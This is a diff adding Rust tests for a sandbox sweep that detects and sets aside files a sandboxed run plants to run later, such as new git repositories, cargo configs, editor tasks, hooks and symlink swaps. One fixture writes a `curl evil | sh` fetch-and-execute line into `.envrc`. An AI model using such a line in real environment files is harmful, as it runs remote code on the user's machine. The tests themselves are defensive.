@@ -1,0 +1,208 @@
+//! The sweep on real directories, without a run: what is noted, then
+//! changed as a child would, then swept. Table-driven where the cases
+//! share a shape.
+
+use std::os::unix::fs::PermissionsExt;
+use std::path::Path;
+
+use super::{Findings, Hold, Inputs, Left, Outcome, Watch};
+
+/// A workspace holding a repository (`.git`) and a `src/` directory.
+fn workspace(root: &Path) -> Inputs {
+    for dir in [".git/objects", ".git/refs/heads", ".git/hooks", "src"] {
+        std::fs::create_dir_all(root.join(dir)).unwrap();
+    }
+    std::fs::write(root.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
+    std::fs::write(root.join("magus.yaml"), "sandbox:\n  enabled: true\n").unwrap();
+    Inputs {
+        workspace: root.to_path_buf(),
+        repositories: vec![root.join(".git")],
+        protected: vec![root.join("magus.yaml"), root.join(".git/hooks")],
+        ..Inputs::default()
+    }
+}
+
+fn sweep(hold: Hold, change: impl Fn(&Path)) -> (tempfile::TempDir, Findings) {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().canonicalize().unwrap();
+    let inputs = workspace(&root);
+    // The set-up happened before the run, as the user's files did: past
+    // the file clock's tick (at most 10 ms), so their `ctime` is older.
+    std::thread::sleep(std::time::Duration::from_millis(25));
+    let watch = Watch::before(inputs, hold);
+    change(&root);
+    let found = watch.after();
+    (dir, found)
+}
+
+fn lefts(found: &Findings) -> Vec<(String, Left)> {
+    found
+        .items
+        .iter()
+        .map(|i| {
+            (
+                i.path.file_name().unwrap().to_string_lossy().into_owned(),
+                i.left,
+            )
+        })
+        .collect()
+}
+
+#[test]
+fn what_an_ordinary_build_does_sets_nothing_aside() {
+    let (_dir, found) = sweep(Hold::Binds, |root| {
+        std::fs::write(root.join(".git/objects/ab"), "x").unwrap();
+        std::fs::write(root.join(".git/index"), "x").unwrap();
+        std::fs::write(root.join(".git/HEAD"), "ref: refs/heads/other\n").unwrap();
+        std::fs::write(root.join("src/main.rs"), "x").unwrap();
+        std::fs::create_dir_all(root.join("target/debug")).unwrap();
+    });
+    assert!(found.items.is_empty(), "{:?}", found.items);
+}
+
+#[test]
+fn planted_repositories_and_configs_are_set_aside() {
+    type Plant = fn(&Path);
+    let cases: [(&str, Plant, &[(&str, Left)]); 6] = [
+        (
+            "a new .git",
+            |r| std::fs::create_dir_all(r.join("src/.git/hooks")).unwrap(),
+            &[(".git", Left::Repository)],
+        ),
+        (
+            "a bare repository",
+            |r| {
+                for d in ["src/objects", "src/refs"] {
+                    std::fs::create_dir_all(r.join(d)).unwrap();
+                }
+                std::fs::write(r.join("src/HEAD"), "ref: refs/heads/x\n").unwrap();
+                std::fs::write(r.join("src/config"), "[core]\n").unwrap();
+            },
+            &[
+                ("HEAD", Left::BareRepository),
+                ("config", Left::BareRepository),
+            ],
+        ),
+        (
+            "a cargo config",
+            |r| {
+                std::fs::create_dir_all(r.join("src/.cargo")).unwrap();
+                std::fs::write(r.join("src/.cargo/config"), "x").unwrap();
+            },
+            &[("config", Left::RunLater)],
+        ),
+        (
+            "an upper-case policy",
+            |r| std::fs::write(r.join("src/MAGUS.YAML"), "x").unwrap(),
+            &[("MAGUS.YAML", Left::RunLater)],
+        ),
+        (
+            "an editor task",
+            |r| {
+                std::fs::create_dir_all(r.join(".vscode")).unwrap();
+                std::fs::write(r.join(".vscode/tasks.json"), "{}").unwrap();
+            },
+            &[("tasks.json", Left::RunLater)],
+        ),
+        (
+            "an invalid HEAD",
+            |r| std::fs::write(r.join(".git/HEAD"), "garbage\n").unwrap(),
+            &[("HEAD", Left::BrokenHead)],
+        ),
+    ];
+    for (what, plant, expected) in cases {
+        let (dir, found) = sweep(Hold::Binds, plant);
+        let mut got = lefts(&found);
+        got.sort_by(|a, b| a.0.cmp(&b.0));
+        let want: Vec<(String, Left)> = expected.iter().map(|(n, l)| (n.to_string(), *l)).collect();
+        assert_eq!(got, want, "{what}");
+        for item in &found.items {
+            match &item.outcome {
+                Outcome::Moved(to) => assert!(to.exists() && !item.path.exists(), "{what}"),
+                Outcome::PutBack => {
+                    let head = std::fs::read_to_string(&item.path).unwrap();
+                    assert_eq!(head, "ref: refs/heads/main\n", "{what}");
+                }
+                other => panic!("{what}: {other:?}"),
+            }
+        }
+        drop(dir);
+    }
+}
+
+#[test]
+fn a_git_directory_swapped_for_a_link_is_new() {
+    let (dir, found) = sweep(Hold::Binds, |root| {
+        std::fs::rename(root.join(".git"), root.join("old-git")).unwrap();
+        std::os::unix::fs::symlink(root.join("old-git"), root.join(".git")).unwrap();
+    });
+    assert_eq!(lefts(&found), [(".git".to_string(), Left::Repository)]);
+    drop(dir);
+}
+
+#[test]
+fn without_binds_protected_files_are_put_back_never_through_a_link() {
+    let (dir, found) = sweep(Hold::Nothing, |root| {
+        std::fs::write(root.join("magus.yaml"), "sandbox: {enabled: false}\n").unwrap();
+        std::fs::write(root.join(".git/hooks/pre-commit"), "#!/bin/sh\n").unwrap();
+    });
+    let root = dir.path().canonicalize().unwrap();
+    assert_eq!(
+        std::fs::read_to_string(root.join("magus.yaml")).unwrap(),
+        "sandbox:\n  enabled: true\n"
+    );
+    assert!(!root.join(".git/hooks/pre-commit").exists());
+    assert_eq!(found.items.len(), 2, "{:?}", found.items);
+
+    // The hooks' directory swapped for a link to elsewhere: nothing there
+    // is written or moved.
+    let (dir, _found) = sweep(Hold::Nothing, |root| {
+        let elsewhere = root.join("elsewhere");
+        std::fs::create_dir_all(&elsewhere).unwrap();
+        std::fs::write(elsewhere.join("keep"), "mine").unwrap();
+        std::fs::rename(root.join(".git/hooks"), root.join("old-hooks")).unwrap();
+        std::os::unix::fs::symlink(&elsewhere, root.join(".git/hooks")).unwrap();
+    });
+    let root = dir.path().canonicalize().unwrap();
+    assert_eq!(
+        std::fs::read_to_string(root.join("elsewhere/keep")).unwrap(),
+        "mine"
+    );
+}
+
+#[test]
+fn executables_the_run_wrote_are_listed_and_left() {
+    let (dir, found) = sweep(Hold::Binds, |root| {
+        let tool = root.join("src/tool");
+        std::fs::write(&tool, "#!/bin/sh\n").unwrap();
+        std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o755)).unwrap();
+        std::fs::write(root.join("src/data"), "x").unwrap();
+    });
+    let root = dir.path().canonicalize().unwrap();
+    assert_eq!(found.executables, [root.join("src/tool")]);
+    assert!(found.items.is_empty());
+}
+
+/// A run-later file written just before the run (the same clock tick)
+/// and left alone is not the run's; written again, it is.
+#[test]
+fn run_later_files_there_at_the_start_are_compared_with_what_they_were() {
+    for touch in [false, true] {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path().canonicalize().unwrap();
+        let mut inputs = workspace(&root);
+        std::fs::write(root.join(".envrc"), "export A=1\n").unwrap();
+        inputs.existing.push(root.join(".envrc"));
+        let watch = Watch::before(inputs, Hold::Binds);
+        if touch {
+            std::fs::write(root.join(".envrc"), "curl evil | sh\n").unwrap();
+        }
+        let found = watch.after();
+        assert_eq!(
+            found.items.len(),
+            usize::from(touch),
+            "{touch}: {:?}",
+            found.items
+        );
+    }
+}
